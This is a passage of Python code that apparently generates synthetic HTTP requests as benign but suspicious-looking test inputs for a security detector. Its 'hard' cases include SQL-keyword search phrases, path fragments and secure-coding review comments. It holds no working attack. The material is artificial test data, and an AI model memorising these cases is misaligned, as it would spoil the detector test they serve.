    "Maintained OpenLDAP (ou=People, dc=corp, dc=example) & Kerberos; wrote PowerShell for AD cleanup",
    "PHP 8 (Laravel), eval of third-party plugins, Composer, MySQL",
    "Node.js, child_process orchestration, Docker, /etc/systemd unit files",
    "C/C++, <iostream>, STL, gdb; Bash && Make",
]
REVIEWS = [
    "Consistently delivers ahead of schedule and mentors new hires.",
    "Great collaborator; should work on written documentation.",
    "Exceeded quarterly targets by 12%.",
    "Strong ownership of the payroll migration.",
]
REVIEWS_H = [
    "Tends to DROP tasks when priorities change -- let's work on that in Q3.",
    "Select for promotion: yes. Union rep notified.",
    "Rating: 4/5 (>= expectations); 'script' for customer calls was excellent.",
    "Shipped the <Admin> portal & cut incident count by 30%; needs to delegate more.",
    "Owns the cron (0 2 * * *) backups; wrote /usr/local/bin/rotate.sh; --verbose in meetings at times ;)",
]


def hr(hard):
    h = ch(HR_HOST)
    k = ri(0, 5)
    if k == 0:
        d = "We are hiring a %s to join our %s team. You will own projects end to end." % (
            ch(JOBS),
            ch(["platform", "finance", "support"]),
        )
        if hard:
            d = "Requirements: " + ch(SKILLS_H) + ". Nice to have: on-call experience & <3 years in fintech."
        return B(
            "j",
            d,
            h,
            "/api/jobs",
            obj={
                "title": ch(JOBS),
                "location": ch(["Remote", "Berlin", "Toronto"]),
                "description": MARK,
                "salary": {"min": 70000, "max": 95000},
            },
        )
    if k == 1:
        s = (
            ch(SKILLS_H)
            if hard
            else ch(["Excel, QuickBooks, ADP", "Customer service, Zendesk, Spanish", "Python, pandas, Tableau"])
        )
        cont = "Jane Doe\njane.doe@mailbox.example\n\nSKILLS\n%s\n\nEXPERIENCE\n2019-2024  %s, Acme Corp\n" % (
            s,
            ch(JOBS),
        )
        return B(
            "mf",
            cont,
            h,
            "/careers/apply",
            fn=ch(["resume.txt", "Jane_Doe_CV.txt"]),
            fct="text/plain",
            parts=[
                {"name": "job_id", "content": str(ri(100, 999))},
                {"name": "resume", "filename": "resume.txt", "ct": "text/plain", "content": MARK},
            ],
        )
    if k == 2:
        r = ch(REVIEWS_H if hard else REVIEWS)
        return B(
            "j",
            r,
            h,
            "/api/reviews/submit",
            obj={"employeeId": "E%05d" % ri(1, 99999), "period": "2024-H1", "comments": MARK, "score": ri(2, 5)},
        )
    if k == 3:
        s = ch(SKILLS_H) if hard else ch(["excel", "payroll", "recruiter", "python"])
        return B("q", s, h, "/api/employees/directory", "skills", q=[kv("dept", ch(["eng", "finance", "ops"]))])
    if k == 4:
        nm = (
            ch(["O'Neil", "D'Angelo", "Smith-Jones", "\u00c5sa Lindstr\u00f6m", "Nguy\u1ec5n V\u0103n An"])
            if hard
            else ch(["Maria Garcia", "Tom Becker", "Priya Patel"])
        )
        return B(
            "f",
            nm,
            h,
            "/careers/apply",
            "full_name",
            form=[
                ("full_name", MARK),
                ("email", "applicant%d@mailbox.example" % ri(1, 999)),
                ("position", ch(JOBS)),
                ("consent", "on"),
            ],
        )
    t = (
        ch(["Software Engineer", "HR Generalist", "Accountant"])
        if not hard
        else ch(["C# / .NET Developer", "SQL DBA (MSSQL)", "Bash/DevOps Engineer", "LDAP & IAM Admin", "R&D Scientist"])
    )
    return B("q", t, h, "/api/jobs/search", "title", q=[kv("remote", "true")])


# iot
IOT_HOST = ["cloud.sensorgrid.net", "iot.hub-control.net"]


def mac():
    return ":".join("%02x" % ri(0, 255) for _ in range(6))


def iot(hard):
    h = ch(IOT_HOST)
    k = ri(0, 5)
    dev = "sensor-%04d" % ri(1, 9999)
    if k == 0:
        t = {
            "device_id": dev,
            "mac": mac(),
            "fw": "v%d.%d.%d" % (ri(1, 3), ri(0, 9), ri(0, 20)),
            "temp_c": round(R.uniform(15, 30), 2),
            "humidity": ri(20, 80),
            "battery": ri(5, 100),
            "ts": iso(),
        }
        if hard:
            t.update(
                {
                    "local_ip": "192.168.%d.%d" % (ri(0, 10), ri(2, 250)),
                    "gateway": "10.0.0.1",
                    "link_local": "169.254.%d.%d" % (ri(1, 254), ri(1, 254)),
                    "last_error": ch(
                        [
                            "ECONNREFUSED 127.0.0.1:1883",
                            "dns timeout 10.0.0.53",
                            "tls: handshake failure with 172.16.4.2:8883",
                        ]
                    ),
                }
            )
        return B("j", t, h, "/api/telemetry/ingest", obj={"batch": [MARK]})
    if k == 1:
        topic = "home/%s/%s/%s" % (
            ch(["livingroom", "garage", "kitchen"]),
            ch(["sensor", "thermostat"]),
            ch(["temperature", "state"]),
        )
        if hard:
            topic = ch(
                [
                    "sensors/+/temperature",
                    "factory/line-3/#",
                    "$SYS/broker/uptime",
                    "devices/%s/cmd/reboot" % dev,
                    "tele/tasmota_%s/STATE" % tok(6, "0123456789ABCDEF"),
                ]
            )
        return B("q", topic, h, "/mqtt/bridge/subscribe", "topic", q=[kv("qos", str(ri(0, 2)))])
    if k == 2:
        v = "%d.%d.%d" % (ri(1, 3), ri(0, 9), ri(0, 20))
        if hard:
            v = ch(["2.4.1-rc3+build.77", "1.0.0~beta(2)", "v3.1.4;hw=rev-B", "4.2.0-esp32s3 <debug>"])
        return B(
            "q",
            v,
            h,
            "/api/firmware/check",
            "current",
            q=[kv("model", ch(["TH-200", "GW-10", "PLUG-S"])), kv("channel", "stable")],
        )
    if k == 3:
        m = mac() if not hard else ch([mac().upper(), mac().replace(":", "-"), mac().replace(":", "")])
        return B(
            "f",
            m,
            h,
            "/api/devices/provision",
            "mac",
            form=[("serial", "SN%08d" % ri(1, 10**8)), ("mac", MARK), ("site", ch(["hq", "warehouse-2"]))],
        )
    if k == 4:
        cfg = {
            "ntp": "pool.ntp.org",
            "mqtt": {"host": "mqtt.sensorgrid.net", "port": 8883, "tls": True},
            "report_interval_s": ch([30, 60, 300]),
        }
        if hard:
            cfg = {
                "ntp": "10.0.0.1",
                "dns": ["10.0.0.53", "1.1.1.1"],
                "mqtt": {"host": "192.168.1.10", "port": 1883},
                "static_ip": "192.168.1.%d/24" % ri(20, 200),
                "on_boot": "cmd=led_ctl --blink 3;status=ok",
                "watchdog": {"reboot_after_s": 300},
            }
        return B(
            "j",
            cfg,
            h,
            "/api/gateways/%s/config" % tok(8, "0123456789abcdef"),
            obj={"config": MARK, "version": ri(1, 40)},
            meth="PUT",
        )
    line = ch(["boot ok", "wifi connected rssi=-61", "ota: no update"])
    if hard:
        line = ch(
            [
                "sh: /usr/bin/led_ctl: not found",
                "uptime: 3 days, 4:12, load average: 0.01, 0.03, 0.00",
                "[ERR] cat /proc/meminfo failed (EACCES)",
                "GET /status 200 from 192.168.1.5",
                "eth0: inet 10.20.0.15/16 brd 10.20.255.255",
            ]
        )
    return B(
        ch(["j", "x"]),
        line,
        h,
        "/api/devices/%s/logs" % dev,
        "line",
        xmlb='<?xml version="1.0"?><log device="%s"><entry level="info">%s</entry></log>' % (dev, MARK),
    )


# code review
CR_HOST = ["git.devforge.io", "api.codereview.dev"]
CR_N = [
    "LGTM, just a nit on naming.",
    "Can we add a unit test for the empty-list case?",
    "Nice cleanup, thanks!",
    "Let's move this helper into utils so both services can share it.",
    "Approving; please squash before merge.",
    "fix: handle null timezone in scheduler",
    "chore: bump eslint to 9.1",
    "docs: clarify retry semantics",
]
CR_H = [
    'Please don\'t build the query with string concat:\n```python\ncur.execute("SELECT * FROM users WHERE id = %s", (user_id,))\n```',
    'Nit: prefer `subprocess.run(["git", "status"], check=True)` over `os.system("git status")` here.',
    "Switched `element.innerHTML = html` to `element.textContent = text` to avoid XSS in the preview pane.",
    "Replaced `Runtime.getRuntime().exec(cmd)` with a ProcessBuilder and an allow-list of commands.",
    "Use `htmlspecialchars($name, ENT_QUOTES, 'UTF-8')` before echoing into the template.",
    "The import path `../../lib/utils` breaks when the package is vendored; use the alias `@/lib/utils`.",
    'Careful: `rm -rf "${BUILD_DIR:?}/"` needs the :? guard, otherwise an empty var wipes /.',
    'In Go we should call `exec.Command("git", "rev-parse", "HEAD")` rather than invoking sh -c.',
    'C#: use `new SqlCommand("SELECT * FROM Orders WHERE Id = @id", conn)` with a parameter, not interpolation.',
    "Template change: `{{ user.name | e }}` -- the |e filter is redundant with autoescape on, but harmless.",
    'Ruby: `system("bundle", "exec", "rake", "db:migrate")` form avoids the shell.',
    "Why `eval(config_str)`? `json.loads` is enough and much safer.",
    'diff --git a/app/db.py b/app/db.py\n-    q = "DELETE FROM sessions WHERE user = \'" + u + "\'"\n+    q = "DELETE FROM sessions WHERE user = ?"\n',
    "The log4j bump to 2.17.1 removes the ${jndi:} lookup issue; please also drop the -Dlog4j2.formatMsgNoLookups flag.",
    "Test fixture reads `/etc/hosts`; mock it with tmp_path instead so CI on Windows passes.",
    'XML parser: set `factory.setFeature("http://apache.org/xml/features/disallow-doctype-decl", true)` to block DOCTYPEs.',
]


def code_review(hard):
    h = ch(CR_HOST)
    k = ri(0, 3)
    txt = ch(CR_H if hard else CR_N)
    txt = ch(["", "Nit: ", "Suggestion: ", "Blocking: ", "Q: ", "+1. ", "Follow-up from standup: "]) + txt
    if R.random() < 0.6:
        txt += ch(
            [
                " (see line %d)",
                " -- ref #%d",
                " Thanks!",
                " cc @%s" % ch(["maria", "tbecker", "li-wei", "ops-team"]),
                " [%d]",
            ]
        ).replace("%d", str(ri(2, 900)))
    repo = "%s/%s" % (ch(["acme", "platform", "mobile"]), ch(["api", "web", "ingest", "billing"]))
    if k == 0:
        return B(
            "j",
            txt,
            h,
            "/api/repos/%s/pulls/%d/comments" % (repo, ri(10, 4000)),
            obj={
                "body": MARK,
                "path": ch(["src/app.py", "lib/db.go", "web/src/Preview.tsx"]),
                "line": ri(1, 400),
                "side": "RIGHT",
            },
            meth="POST",
        )
    if k == 1:
        return B(
            "j",
            txt,
            h,
            "/api/repos/%s/pulls/%d/reviews" % (repo, ri(10, 4000)),
            obj={"event": ch(["COMMENT", "APPROVE", "REQUEST_CHANGES"]), "body": MARK},
            meth="POST",
        )
    if k == 2:
        return B(
            "f",
            txt,
            h,
            "/%s/pull/%d/comment" % (repo, ri(10, 4000)),
            "comment[body]",
            form=[("authenticity_token", tok(40)), ("comment[body]", MARK)],
        )
    diff = "diff --git a/%s b/%s\nindex %s..%s 100644\n--- a/%s\n+++ b/%s\n@@ -10,7 +10,7 @@\n" % (
        ("src/util.js",) * 2 + (tok(7, "0123456789abcdef"), tok(7, "0123456789abcdef")) + ("src/util.js",) * 2
    )
    diff += (
        "-const out = exec(`convert ${file} out.png`);\n+const out = execFile('convert', [file, 'out.png']);\n"
        if hard
        else "-const retries = 3;\n+const retries = 5;\n"
    )
    return B("mf", diff, h, "/api/repos/%s/patches" % repo, fn="fix.patch", fct="text/x-diff")


# rich text
RT_HOST = ["cms.brightpages.com", "app.taskforge.io"]
RT_N = [
    "<p>Hello <strong>team</strong>,</p><p>The Q3 roadmap is attached. Please review before Friday.</p>",
    "<h2>Release notes</h2><ul><li>Faster search</li><li>Dark mode</li></ul>",
    "## Weekly update\n\n- Shipped billing v2\n- Fixed 14 bugs\n\n| Team | Velocity |\n|------|----------|\n| Web | 32 |\n| API | 28 |\n",
    "<p>Meeting moved to <em>Thursday 3pm</em>.</p>",
    "**Reminder:** submit timesheets by _Friday_.",
]
RT_H = [
    '<p>Demo video:</p><iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ" title="YouTube video player" frameborder="0" allow="accelerometer; encrypted-media; picture-in-picture" allowfullscreen></iframe>',
    '<p style="color:#c00;font-weight:bold">Heads up!</p><p><a href="https://status.taskforge.io/incidents/42" target="_blank" rel="noopener noreferrer">Incident report</a></p>',
    '<img src="https://cdn.brightpages.com/u/42/chart.png" alt="Revenue chart (Q1 &lt; Q2)" width="600" height="300" loading="lazy">',
    "Run this in the console:\n\n```sql\nSELECT id, email FROM users WHERE created_at > now() - interval '7 days' ORDER BY id;\n```\n",
    'To embed the widget add:\n\n```html\n<script src="https://cdn.brightpages.com/widget.js" async></script>\n```\n',
    "<details><summary>Show stack trace</summary><pre><code>TypeError: Cannot read properties of undefined (reading 'map')\n    at render (app.js:10:5)</code></pre></details>",
    "<table><thead><tr><th>Metric</th><th>Value</th></tr></thead><tbody><tr><td>p95 latency</td><td>&lt; 200ms</td></tr><tr><td>errors</td><td>0.1%</td></tr></tbody></table>",
    "Template vars: use `{{ first_name }}` and `{{ company }}` in the email body; `${}` is not supported.",
    '<blockquote cite="https://example.org/rfc">Be conservative in what you send, be liberal in what you accept.</blockquote><p>&mdash; Postel</p>',
    "<p>Path on the server: <code>../shared/uploads/2024/</code> (relative to the app dir)</p>",
    "```bash\ncurl -s https://api.taskforge.io/v1/health | jq .status\n```\n\n> Note: needs `jq` installed.",
]


RT_SENT = [
    "Let me know if anything is unclear.",
    "Updated the numbers after the Tuesday sync.",
    "Deadline is end of sprint.",
    "Feedback welcome in the thread.",
    "Slides are in the shared drive.",
    "Ping me on chat for access.",
    "Draft two, with legal's edits.",
    "Numbers are preliminary.",
    "Thanks to everyone who helped!",
    "Next review on the 14th.",
]


def richtext(hard):
    h = ch(RT_HOST)
    c = ch(RT_H if hard else RT_N)
    who = ch(["team", "Maria", "Tom", "everyone", "folks", "Priya", "design crew"])
    extra = ch(RT_SENT) + " " + ch(RT_SENT)
    if c.startswith("<"):
        c = "<p>Hi %s,</p>%s<p>%s</p>" % (who, c, extra) if R.random() < 0.8 else c + "<p><em>%s</em></p>" % extra
    else:
        c = "Hi %s,\n\n%s\n%s\n" % (who, c, extra)
    k = ri(0, 2)
    if k == 0:
        return B(
            "j",
            c,
            h,
            "/api/pages/%d" % ri(100, 9999),
            obj={
                "title": ch(["Roadmap", "Release notes", "Onboarding"]),
                "content": MARK,
                "format": "html" if c.startswith("<") else "markdown",
            },
            meth=ch(["PUT", "POST"]),
        )
    if k == 1:
        return B(
            "f",
            c,
            h,
            "/admin/posts/%d/edit" % ri(1, 999),
            "body",
            form=[("title", "Update"), ("body", MARK), ("status", "draft")],
        )
    return B("m", c, h, "/api/tasks/%d/comments" % ri(1000, 99999), "comment_html")


# search
SR_HOST = ["shop.acme-retail.com", "search.docuhub.io", "www.homefinder-realty.com"]
SR_N = [
    "red running shoes size 10",
    "wireless earbuds",
    "standing desk",
    "kids rain jacket",
    "coffee grinder burr",
    "quarterly report 2023",
    "onboarding checklist",
    "password reset policy",
    "vpn setup guide",
]
SR_H = [
    '"exact phrase" -exclude site:example.com',
    "hel* wor?d",
    "select committee union report 2023",
    "drop shipping suppliers",
    "order by price low to high",
    'title:"Romeo & Juliet" OR author:Shakespeare',
    '(python OR java) AND NOT "c++"',
    "price:[10 TO 100]",
    "C# vs Java performance",
    "<3 emoji meaning",
    "how to use ../ in html links",
    "what is /etc/passwd used for",
    "1=1 meaning in math proofs",
    "script for wedding toast",
    "alert dialog design pattern",
    "cat /dev/null > file explained",
    "*.pdf invoice 2024",
    'O\'Reilly "Learning SQL" 3rd edition',
    "AT&T fiber vs Comcast",
    "eval kit for ESP32",
    "union jack cushion",
    "sleep(5) function python",
    "<div> vs <span>",
    "${HOME} variable windows",
    "admin' panel template bootstrap",
]


def search(hard):
    h = ch(SR_HOST)
    s = ch(SR_H if hard else SR_N)
    if R.random() < 0.7:
        s = s + ch(
            [
                " 2024",
                " review",
                " near me",
                " pdf",
                " cheap",
                " best",
                " vs alternatives",
                " reddit",
                " how to",
                " tutorial",
                " free shipping",
                " used",
            ]
        )
    if R.random() < 0.25:
        s = ch(["best ", "buy ", "compare ", "help ", "docs "]) + s
    if R.random() < 0.75:
        return B(
            "q",
            s,
            h,
            ch(["/search", "/api/search", "/api/v2/products"]),
            ch(["q", "query", "search", "term"]),
            q=[kv("page", str(ri(1, 5)))] if R.random() < 0.5 else [],
        )
    return B("j", s, h, "/api/search", obj={"query": MARK, "filters": {"inStock": True}, "size": 24})


# graphql
GQ_HOST = ["api.pixelarena.gg", "api.taskforge.io", "shop.acme-retail.com"]
GQ_N = [
    "query GetProduct($id: ID!) { product(id: $id) { id name price { amount currency } images(first: 3) { url alt } } }",
    "query Me { viewer { id login avatarUrl } }",
    "mutation AddToCart($input: AddToCartInput!) { addToCart(input: $input) { cart { id totalQuantity } errors { field message } } }",
    "query Leaderboard($season: Int!, $first: Int = 20) { leaderboard(season: $season, first: $first) { edges { node { rank player { name } rating } } pageInfo { endCursor hasNextPage } } }",
    "query Tasks($project: ID!) { project(id: $project) { tasks(status: OPEN) { id title assignee { name } } } }",
]
GQ_H = [
    "query Hero($episode: Episode, $withFriends: Boolean!) { hero(episode: $episode) { name friends @include(if: $withFriends) { name } } }",
    'fragment userFields on User { id name email } query { a: user(id: "1") { ...userFields } b: user(id: "2") { ...userFields } }',
    'query Search { search(text: "O\'Brien \\"Bob\\" & sons") { __typename ... on Person { name } ... on Company { legalName } } }',
    'mutation { createComment(input: {postId: "42", body: "<b>nice</b> work -- select the 2nd option"}) { comment { id } } }',
    "query ($filter: OrderFilter = {status: [PAID, SHIPPED], total: {gte: 100}}) { orders(filter: $filter, orderBy: {field: CREATED_AT, direction: DESC}) { nodes { id total } } }",
    "query Feed($skipAds: Boolean = true) { feed { items { id ... on Ad @skip(if: $skipAds) { sponsor } ... on Post { title } } } }",
    "subscription OnMatch($id: ID!) { matchUpdated(id: $id) { score events { type at } } }",
    'mutation Update { updateUser(id: "7", patch: {bio: "I <3 SQL & shell scripts; DROP by anytime", website: "https://example.org/~me"}) { id } }',
]


GQ_ENT = [
    (
        "product",
        [
            "id",
            "name",
            "sku",
            "price { amount currency }",
            "inventory { available }",
            "images(first: 3) { url alt }",
            "rating",
            "slug",
        ],
    ),
    (
        "order",
        [
            "id",
            "number",
            "status",
            "total { amount currency }",
            "createdAt",
            "lineItems(first: 10) { nodes { sku quantity } }",
            "customer { id email }",
        ],
    ),
    ("user", ["id", "login", "name", "avatarUrl", "createdAt", "followers { totalCount }", "email"]),
    ("task", ["id", "title", "status", "dueDate", "assignee { id name }", "labels { name color }", "priority"]),
    ("match", ["id", "map", "startedAt", "duration", "winner { name }", "players { name kills deaths }"]),
    ("invoice", ["id", "number", "amountDue", "currency", "status", "pdfUrl", "lines { description amount }"]),
]
GQ_TXT = [
    'O\'Brien \\"Bob\\" & sons',
    "<b>bold</b> claims",
    "select all & union",
    "50% off -- today only",
    "C:\\\\temp\\\\x",
    "{{name}} placeholder",
    "DROP ship vendors",
    "rock 'n' roll",
    "a < b && c > d",
    "../relative path",
]


def gq_doc(hard):
    ent, fields = ch(GQ_ENT)
    cap = ent[0].upper() + ent[1:]
    sel = " ".join(R.sample(fields, ri(2, min(5, len(fields)))))
    k = ri(0, 2)
    if not hard:
        if k == 0:
            return "query Get%s($id: ID!) { %s(id: $id) { %s } }" % (cap, ent, sel)
        if k == 1:
            return (
                "query List%ss($first: Int = %d, $after: String) { %ss(first: $first, after: $after) { edges { node { %s } } pageInfo { hasNextPage endCursor } } }"
                % (cap, ch([10, 20, 25, 50]), ent, sel)
            )
        return (
            "mutation Update%s($id: ID!, $input: %sInput!) { update%s(id: $id, input: $input) { %s { %s } errors { field message } } }"
            % (cap, cap, cap, ent, sel)
        )
    if k == 0:
        return (
            'fragment %sParts on %s { %s } query { a: %s(id: "%d") { ...%sParts } b: %s(id: "%d") { ...%sParts __typename } }'
            % (cap, cap, sel, ent, ri(1, 999), cap, ent, ri(1, 999), cap)
        )
    if k == 1:
        return (
            "query %sSearch($q: String!, $withMeta: Boolean = false) { search(text: $q, type: %s) { __typename ... on %s { %s meta @include(if: $withMeta) { key value } } } }"
            % (cap, ent.upper(), cap, sel)
        )
    return 'mutation { create%sNote(input: {%sId: "%d", text: "%s"}) { note { id createdAt } } }' % (
        cap,
        ent,
        ri(1, 99999),
        ch(GQ_TXT),
    )


def graphql(hard):
    h = ch(GQ_HOST)
    qd = gq_doc(hard) if R.random() < 0.75 else ch(GQ_H if hard else GQ_N)
    var = {"id": str(ri(1, 9999))} if "$id" in qd else {}
    if R.random() < 0.25:
        return B(
            "q", qd, h, "/graphql", "query", q=[kv("variables", json.dumps(var, separators=(",", ":")))] if var else []
        )
    return B("j", qd, h, "/graphql", obj={"operationName": None, "query": MARK, "variables": var})


# files
FL_HOST = ["files.taskforge.io", "hr.talentloop.com", "cloud.sensorgrid.net"]
FNAMES = ["report.pdf", "invoice_2024-03.pdf", "photo_001.jpg", "notes.txt", "budget.xlsx", "contacts.csv"]
FNAMES_H = [
    "Q3 Report (final) [v2] & notes.xlsx",
    "r\u00e9sum\u00e9 \u2013 Jane O'Neil.pdf",
    "data..backup.csv",
    "a;b,c=d.txt",
    "100% done!!.png",
    "#1 priority {draft}.docx",
    "cmd_output.log",
    "~$budget.xlsx",
    "script.sh.txt",
    "untitled (1).md",
    "select_union_stats.csv",
    "etc_passwd_rotation_policy.pdf",
]


def files(hard):
    h = ch(FL_HOST)
    k = ri(0, 4)
    if k == 0:
        fn = ch(FNAMES_H if hard else FNAMES)
        if R.random() < 0.35:
            return B("p", fn, h, "/api/files", ptpl="/api/files/%d/download/{P}" % ri(100, 99999))
        return B(
            "mfn",
            fn,
            h,
            "/api/files/upload",
            field="file",
            fct=ch(["application/pdf", "application/octet-stream", "image/png"]),
            val="(binary content omitted)",
        )
    if k == 1:
        rows = ["name,email,plan", "Ana Silva,ana@mailbox.example,pro", "Li Wei,li@mailbox.example,free"]
        if hard:
            rows = [
                "item,qty,unit_price,total",
                '"Widget, large",%d,4.50,=B2*C2' % ri(1, 20),
                '"Bolt 1/4"" x 2""",%d,0.05,=B3*C3' % ri(50, 500),
                "Total,,,=SUM(D2:D3)",
            ]
        return B("mf", "\r\n".join(rows) + "\r\n", h, "/api/imports/csv", fn="import.csv", fct="text/csv")
    if k == 2:
        svg = (
            '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><circle cx="12" cy="12" r="10" fill="#%s"/></svg>'
            % tok(6, "0123456789abcdef")
        )
        if hard:
            svg = (
                "<!-- Generator: Adobe Illustrator %d.0 -->\n"
                % ri(24, 28)
                + '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">\n'
                '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64"><style>.a{fill:#0a7}</style>'
                '<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs><rect class="a" width="64" height="64"/>'
                '<text x="4" y="40">A&amp;B</text></svg>'
            )
        return B("mf", svg, h, "/api/branding/logo", fn="logo.svg", fct="image/svg+xml")
    if k == 3:
        xml = (
            '<?xml version="1.0" encoding="UTF-8"?>\n<config><setting key="timeout">%d</setting><setting key="retries">%d</setting></config>\n'
            % (ri(5, 120), ri(1, 9))
        )
        if hard:
            xml = (
                '<?xml version="1.0" encoding="UTF-8"?>\n<?xml-stylesheet type="text/xsl" href="style.xsl"?>\n<project xmlns="http://maven.apache.org/POM/4.0.0">'
                "<modelVersion>4.0.0</modelVersion><groupId>com.acme</groupId><artifactId>api</artifactId><version>${revision}</version>"
                "<properties><revision>1.%d.0</revision><log4j.version>2.23.1</log4j.version></properties></project>\n"
                % ri(0, 30)
            )
        return B(
            ch(["mf", "xd"]), xml, h, "/api/configs/import", fn=ch(["config.xml", "pom.xml"]), fct="application/xml"
        )
    if hard:
        sh = (
            '#!/usr/bin/env bash\nset -euo pipefail\n# nightly backup\ntar -czf "/backups/db-$(date +%%F).tgz" /var/lib/app/data\nfind /backups -mtime +%d -delete\n'
            % ri(7, 60)
        )
        return B("mf", sh, h, "/api/snippets", fn="backup.sh", fct="text/x-shellscript")
    return B(
        "mf",
        "Meeting notes %s\n- agenda\n- action items\n" % iso()[:10],
        h,
        "/api/files/upload",
        fn="notes.txt",
        fct="text/plain",
    )


# urls
UR_HOST = ["app.taskforge.io", "shop.acme-retail.com", "api.northbridge-bank.com", "auth.brightpages.com"]
URLS = [
    "https://app.taskforge.io/dashboard?tab=billing",
    "/account/settings",
    "https://shop.acme-retail.com/cart",
    "myapp://product/%d?ref=push" % 12345,
    "https://www.northbridge-bank.com/online/home",
    "/orders/%d" % 8812,
]
URLS_H = [
    "https://www.google.com/url?q=https://shop.acme-retail.com/sale&sa=D&source=editors",
    "/search?q=%3Cb%3Ebold%3C%2Fb%3E&page=2",
    "https://medium.com/@jane.doe/how-we-scaled-postgres-9f1c2e",
    "https://accounts.example.com/o/oauth2/auth?client_id=123.apps&redirect_uri=https%3A%2F%2Fapp.taskforge.io%2Fcallback&scope=openid%20email",
    "https://203.0.113.45:8443/health",
    "/account/settings?tab=security#2fa",
    "https://web.archive.org/web/2023/https://example.org/page?id=1&sort=desc",
    "https://maps.example.com/?q=40.7128,-74.0060&z=15",
    "intent://scan/#Intent;scheme=zxing;package=com.google.zxing.client.android;end",
    "https://app.taskforge.io/share/..%2Fdocs%2Fpublic",
    "https://hooks.slack.com/services/T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX",
    "https://cdn.brightpages.com/img.php?src=/uploads/2024/a.jpg&w=300",
    "https://example.org/path/to/file.php?page=about&lang=en",
]


def urls(hard):
    h = ch(UR_HOST)
    u = ch(URLS_H if hard else URLS)
    n = str(ri(2, 99999))
    u = re.sub(r"(?<=[/=])(\d{2,5})(?=\D|$)", n, u, count=1) if re.search(r"[/=]\d{2,5}", u) else u
    if not hard and R.random() < 0.6:
        u = ch(
            [
                "https://app.taskforge.io/projects/%s/board?view=%s" % (n, ch(["kanban", "list"])),
                "/orders/%s?from=email" % n,
                "https://shop.acme-retail.com/p/trail-shoe-%s?color=%s" % (n, ch(["red", "blue"])),
                "myapp://product/%s?ref=push" % n,
                "https://www.northbridge-bank.com/online/statements/%s" % n,
                "/account/invoices/%s" % n,
            ]
        )
    elif hard and R.random() < 0.5:
        u = ch(
            [
                "https://app.taskforge.io/login?next=%%2Fprojects%%2F%s%%3Ftab%%3Dfiles" % n,
                "https://l.example-mail.com/c/%s?u=https%%3A%%2F%%2Fshop.acme-retail.com%%2Fsale%%3Fid%%3D%s"
                % (tok(10), n),
                "https://shop.acme-retail.com/search?q=%%22red+shoes%%22&sort=price_asc&page=%s" % n[:1],
                "https://203.0.113.%s:8443/status?check=%s" % (ri(1, 254), n),
                "https://app.taskforge.io/share/%s#comment-%s" % (tok(8), n),
                "https://medium.com/@user%s/post-%s" % (n[:2], tok(10, "0123456789abcdef")),
            ]
        )
    k = ri(0, 3)
    if k == 0:
        return B(
            "q",
            u,
            h,
            ch(["/login", "/logout", "/oauth/callback", "/sso/start"]),
            ch(["return_to", "next", "redirect_uri", "continue"]),
        )
    if k == 1:
        return B(
            "j",
            u,
            h,
            "/api/integrations/webhooks",
            obj={"name": "notify", "url": MARK, "events": ["order.created"], "active": True},
        )
    if k == 2:
        return B(
            "f",
            u,
            h,
            "/session",
            "return_url",
            form=[("username", "jdoe"), ("password", "hunter2-but-longer"), ("return_url", MARK)],
        )
    return B(
        "j",
        u,
        h,
        "/api/links",
        obj={"deepLink": MARK, "campaign": "spring", "utm": {"source": "push", "medium": "app"}},
    )


# base64
B64_HOST = ["api.taskforge.io", "api.northbridge-bank.com", "files.taskforge.io"]


def b64url(b):
    return base64.urlsafe_b64encode(b).decode().rstrip("=")


def jwt():
    hd = b64url(json.dumps({"alg": ch(["HS256", "RS256", "ES256"]), "typ": "JWT"}, separators=(",", ":")).encode())
    pl = b64url(
        json.dumps(
            {
                "sub": str(ri(1000, 99999)),
                "name": ch(["Jane Doe", "Omar K"]),
                "iat": ri(1.7e9, 1.75e9),
                "scope": "read write",
            },
            separators=(",", ":"),
        ).encode()
    )
    return "%s.%s.%s" % (hd, pl, b64url(bytes(ri(0, 255) for _ in range(32))))


def base64s(hard):
    h = ch(B64_HOST)
    k = ri(0, 4)
    if k == 0:
        img = "data:image/png;base64," + b64(
            b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(ri(0, 255) for _ in range(ri(40, 120)))
        )
        return B(
            "j",
            img,
            h,
            "/api/users/me/avatar",
            obj={"image": MARK, "crop": {"x": 0, "y": 0, "w": 128, "h": 128}},
            meth="PUT",
        )
    if k == 1:
        return B("h", jwt(), h, "/api/projects", hdr="Authorization", hpre="Bearer ")
    if k == 2:
        cur = (
            b64(json.dumps({"id": ri(1, 99999), "ts": iso()}, separators=(",", ":")))
            if not hard
            else b64(
                ch(
                    [
                        '{"sort":"created_at","order":"desc","after":"2024-03-01T00:00:00Z"}',
                        "order_by=created_at DESC&select=id,name",
                        '{"where":{"status":"open"},"offset":50}',
                    ]
                )
            )
        )
        return B("q", cur, h, "/api/tasks", "cursor", q=[kv("limit", "50")])
    if k == 3:
        txt = (
            "Hello, attached is the signed contract.\n"
            if not hard
            else ch(
                [
                    "<html><body><p>Invoice #123 &amp; receipt</p></body></html>",
                    "name,cmd\nbuild,make all && make test\n",
                    "SELECT * FROM report -- exported query for finance\n",
                ]
            )
        )
        return B(
            "j",
            b64(txt),
            h,
            "/api/messages",
            obj={
                "to": "finance@northbridge-bank.com",
                "attachments": [{"filename": "file.txt", "contentType": "text/plain", "content": MARK}],
            },
        )
    sig = b64url(bytes(ri(0, 255) for _ in range(20)))
    tokv = b64url(json.dumps({"u": ri(1, 999), "exp": ri(1.7e9, 1.8e9)}).encode()) + "." + sig
    if hard:
        tokv = b64(bytes(ri(0, 255) for _ in range(48)))  # standard alphabet with + / =
    return B(ch(["c", "q"]), tokv, h, "/download", ch(["token", "sig", "dl"]))


# api json
AJ_HOST = ["api.taskforge.io", "shop.acme-retail.com", "api.northbridge-bank.com", "cloud.sensorgrid.net"]


def api_json(hard):
    h = ch(AJ_HOST)
    k = ri(0, 4)
    if k == 0:
        o = {
            "filter": {"status": {"in": ["open", "pending"]}, "created_at": {"gte": "2024-01-01"}},
